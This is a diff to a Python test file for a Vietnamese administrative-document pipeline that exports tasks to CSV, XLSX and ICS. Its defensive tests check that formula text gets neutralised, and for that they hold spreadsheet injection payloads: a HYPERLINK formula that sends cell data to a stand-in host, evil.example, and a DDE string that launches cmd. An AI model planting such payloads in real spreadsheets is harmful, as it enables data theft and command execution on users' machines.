@@ -5,7 +5,7 @@ import json
 import pytest
 
 from vanban.pipeline.corpus import db
-from vanban.pipeline.corpus.export import EXPORTERS
+from vanban.pipeline.corpus.export import EXPORTERS, XLSX_MAX_WIDTH, write_export
 from vanban.pipeline.corpus.ingest import ingest
 from vanban.pipeline.corpus.tasks import query_tasks
 
@@ -96,12 +96,8 @@ def test_exports_reread(corpus, tmp_path):
     from icalendar import Calendar
     tasks = query_tasks(corpus)
     assert len({t["id"] for t in tasks}) == len(tasks)
-    for fmt, fn in EXPORTERS.items():
-        out = tmp_path / f"tasks.{fmt}"
-        if fmt in ("csv", "xlsx"):
-            fn(tasks, out, vietnamese_headers=(fmt == "xlsx"))
-        else:
-            fn(tasks, out)
+    for fmt in EXPORTERS:
+        write_export(fmt, tasks, tmp_path / f"tasks.{fmt}", vietnamese_headers=(fmt == "xlsx"))
     raw = (tmp_path / "tasks.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")                                # BOM for Excel
     frame = pd.read_csv(tmp_path / "tasks.csv", encoding="utf-8-sig")
@@ -143,3 +139,160 @@ def test_task_ids_survive_reingest(tmp_path):
         ingest([str(SAMPLES / "000_1e1698cb1e74ad37.txt")], corpus, jobs=1, progress=False)
     ids = [[r[0] for r in db.connect(c).execute("SELECT id FROM tasks ORDER BY id")] for c in (first, second)]
     assert ids[0] == ids[1] and len(ids[0]) == 30
+
+
+# --- spreadsheets: no formulas from document text, a sheet a tracker can use ----------------------
+def _task(tid: str, description: str, lead=("Văn phòng UBND xã",), deadline=None, document=None) -> dict:
+    """A task as query_tasks returns it, for exports of hand-made text."""
+    deadline = deadline or {"text": "Năm 2021", "kind": "period", "start": "2021-01-01", "end": "2021-12-31",
+                            "recurrence": None}
+    document = document or {"sha256": "0" * 64, "number": "1/KH-UBND", "issuer": "UBND xã", "issued_date": "2021-09-22",
+                            "doc_type": "ke_hoach", "title": "Kế hoạch", "path": "kh.txt"}
+    return {"id": tid, "ref": "1", "group": None, "description": description, "lead": list(lead),
+            "support": ["Các ban, ngành, đoàn thể"], "owners": [], "deadline": deadline,
+            "source": {"kind": "table", "page": 1, "start": 0, "end": 10}, "citation_ids": [], "document": document}
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
+           "\r=1+1", "- Tuyên truyền, phổ biến Kế hoạch", "＝1+1"]
+
+
+def test_formula_text_is_neutralised_in_csv(tmp_path):
+    import pandas as pd
+    tasks = [_task(f"t{i:016x}", text) for i, text in enumerate(HOSTILE)]
+    tasks.append(_task("tffffffffffffffff", "Bám sát, triển khai", lead=["=cmd|' /C calc'!A0"]))
+    write_export("csv", tasks, tmp_path / "t.csv")
+    frame = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
+    assert frame["description"].tolist()[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
+    assert frame["description"].iloc[-1] == "Bám sát, triển khai"            # ordinary text untouched
+    assert frame["lead"].iloc[-1] == "'=cmd|' /C calc'!A0"
+    assert frame["support"].iloc[0] == "Các ban, ngành, đoàn thể"              # commas as they are, no "\\,"
+    assert frame["deadline_end"].iloc[0] == "2021-12-31"                      # dates are not document text
+
+
+def test_formula_text_is_a_string_cell_in_xlsx(tmp_path):
+    import openpyxl
+    import pandas as pd
+    tasks = [_task(f"t{i:016x}", text) for i, text in enumerate(HOSTILE)]
+    tasks.append(_task("tffffffffffffffff", "Bám sát, triển khai", lead=["=cmd|' /C calc'!A0"]))
+    write_export("xlsx", tasks, tmp_path / "t.xlsx")
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]              # no formula anywhere
+    header = [c.value for c in ws[1]]
+    description = [ws.cell(r, header.index("description") + 1) for r in range(2, ws.max_row + 1)]
+    assert [c.value for c in description[:len(HOSTILE)]] == HOSTILE           # the visible text is the document's
+    assert all(c.data_type == "s" and c.quotePrefix for c in description[:len(HOSTILE)])
+    assert not description[-1].quotePrefix
+    assert not [c.coordinate for c in cells if isinstance(c.value, str) and "\\" in c.value]   # no "\\," escapes
+    sheet = pd.read_excel(tmp_path / "t.xlsx", keep_default_na=False)
+    assert sheet["description"].tolist()[:len(HOSTILE)] == HOSTILE and sheet["lead"].iloc[-1] == "=cmd|' /C calc'!A0"
+    assert sheet["support"].iloc[0] == "Các ban, ngành, đoàn thể"
+
+
+def test_control_characters_do_not_break_the_xlsx(tmp_path):
+    import pandas as pd
+    write_export("xlsx", [_task("t0000000000000003", "Tuyên truyền\x0bphổ biến\x0c\x00 kế hoạch")], tmp_path / "t.xlsx")
+    assert pd.read_excel(tmp_path / "t.xlsx")["description"].tolist() == ["Tuyên truyền phổ biến   kế hoạch"]
+
+
+def test_xlsx_is_a_tracker(corpus, tmp_path):
+    import datetime as dt
+    import openpyxl
+    import pandas as pd
+    from openpyxl.utils import get_column_letter
+    tasks = query_tasks(corpus)
+    write_export("xlsx", tasks, tmp_path / "t.xlsx", vietnamese_headers=True)
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    header = [c.value for c in ws[1]]
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(header))}{len(tasks) + 1}"
+    due = header.index("Hạn") + 1
+    for r, t in enumerate(tasks, 2):
+        cell = ws.cell(r, due)
+        if t["deadline"]["end"]:
+            assert cell.is_date and cell.number_format == "dd/mm/yyyy"
+            assert cell.value.date() == dt.date.fromisoformat(t["deadline"]["end"])
+        else:
+            assert cell.value is None
+    widths = {h: ws.column_dimensions[get_column_letter(i)].width for i, h in enumerate(header, 1)}
+    assert all(len(h) < w <= XLSX_MAX_WIDTH for h, w in widths.items())
+    assert widths["Nội dung công việc"] == XLSX_MAX_WIDTH > widths["STT"]      # long text capped, short columns narrow
+    sheet = pd.read_excel(tmp_path / "t.xlsx")
+    assert pd.api.types.is_datetime64_any_dtype(sheet["Hạn"]) and pd.api.types.is_datetime64_any_dtype(sheet["Bắt đầu"])
+
+
+# --- ICS: a recurring to-do always has its DTSTART -------------------------------------------------
+def _todos(path) -> dict:
+    from icalendar import Calendar
+    return {str(c["uid"]): c for c in Calendar.from_ical(path.read_bytes()).walk() if c.name == "VTODO"}
+
+
+def test_every_rrule_has_a_dtstart(corpus, tmp_path):
+    tasks = query_tasks(corpus)
+    write_export("ics", tasks, tmp_path / "t.ics")
+    todos = _todos(tmp_path / "t.ics")
+    recurring = [todo for todo in todos.values() if "rrule" in todo]
+    assert len(recurring) == 2 and all("dtstart" in todo for todo in recurring)
+    # seed 004 is an undated draft: its quarterly tasks count from the period its title names ("năm 2022 …")
+    assert {todo["dtstart"].dt.isoformat() for todo in recurring} == {"2022-01-01"}
+
+
+def test_a_recurring_todo_starts_on_its_first_occurrence_after_the_issue_date(tmp_path):
+    import datetime as dt
+    from dateutil.rrule import rrulestr
+    yearly = {"text": "định kỳ trước ngày 30 tháng 6 hằng năm", "kind": "recurring", "start": None, "end": None,
+              "recurrence": "FREQ=YEARLY;BYMONTH=6;BYMONTHDAY=30"}
+    doc = {"sha256": "0" * 64, "number": "2/QĐ-UBND", "issuer": "UBND tỉnh", "issued_date": "2025-01-02",
+           "doc_type": "quyet_dinh", "title": "Quyết định ban hành quy chế", "path": "qd.txt"}
+    write_export("ics", [_task("t0000000000000001", "Báo cáo kết quả", deadline=yearly, document=doc)], tmp_path / "t.ics")
+    [todo] = _todos(tmp_path / "t.ics").values()
+    start = todo["dtstart"].dt
+    assert start == dt.date(2025, 6, 30)                       # the rule's own day, not an extra occurrence
+    rule = rrulestr(todo["rrule"].to_ical().decode(), dtstart=dt.datetime.combine(start, dt.time()))
+    assert [d.date().isoformat() for d in rule[:2]] == ["2025-06-30", "2026-06-30"]
+
+
+def test_a_recurring_task_without_any_date_is_a_plain_todo(tmp_path):
+    quarterly = {"text": "định kỳ hàng quý", "kind": "recurring", "start": None, "end": None,
+                 "recurrence": "FREQ=MONTHLY;INTERVAL=3"}
+    doc = {"sha256": "0" * 64, "number": None, "issuer": "UBND xã", "issued_date": None,
+           "doc_type": "ke_hoach", "title": "Kế hoạch khắc phục tồn tại", "path": "kh.txt"}
+    write_export("ics", [_task("t0000000000000002", "Báo cáo tiến độ", deadline=quarterly, document=doc)], tmp_path / "t.ics")
+    [todo] = _todos(tmp_path / "t.ics").values()
+    assert "rrule" not in todo and "dtstart" not in todo and "due" not in todo
+    assert "Lặp lại: định kỳ hàng quý (FREQ=MONTHLY;INTERVAL=3)" in str(todo["description"])
+
+
+# --- one registry for the CLI and the web app ------------------------------------------------------
+def test_cli_choices_come_from_the_registry(corpus_path, tmp_path, capsys):
+    from vanban.pipeline.cli import main
+    with pytest.raises(SystemExit) as exit_:
+        main(["export", "tasks", "--format", "xls", "-o", str(tmp_path / "t.xls"), "--corpus", str(corpus_path)])
+    assert exit_.value.code == 2
+    assert f"choose from {', '.join(repr(f) for f in EXPORTERS)}" in capsys.readouterr().err
+    for fmt in EXPORTERS:
+        assert main(["export", "tasks", "--format", fmt, "-o", str(tmp_path / f"t.{fmt}"), "--corpus", str(corpus_path)]) == 0
+        assert (tmp_path / f"t.{fmt}").stat().st_size > 0
+    assert not list(tmp_path.glob(".*.tmp"))                                  # written atomically, nothing left over
+    with pytest.raises(FileNotFoundError, match="no such folder: '.*missing'"):
+        write_export("csv", [], tmp_path / "missing" / "t.csv")                # a typo in -o makes no folder
+    assert not (tmp_path / "missing").exists()
+
+
+def test_web_downloads_come_from_the_registry(corpus_path, tmp_path):
+    import io
+    import pandas as pd
+    from vanban.pipeline.web.app import create_app
+    client = create_app(corpus_path).test_client()
+    page = client.get("/tasks").get_data(as_text=True)
+    for fmt, exporter in EXPORTERS.items():
+        assert f"format={fmt}&amp;" in page
+        response = client.get(f"/tasks/export?format={fmt}&vi=1&doc=7432/UBND-XD")
+        assert response.status_code == 200 and response.mimetype == exporter.mime
+        assert response.mimetype_params.get("charset", "utf-8") == "utf-8"
+        assert f"filename={exporter.file_name()}" in response.headers["Content-Disposition"]
+        assert response.data == exporter.render(query_tasks(db.connect(corpus_path), doc="7432/UBND-XD"), True)
+    sheet = pd.read_excel(io.BytesIO(client.get("/tasks/export?format=xlsx&vi=1&doc=7432/UBND-XD").data))
+    assert len(sheet) == 5 and "Nội dung công việc" in sheet.columns
+    assert client.get("/tasks/export?format=exe").status_code == 400
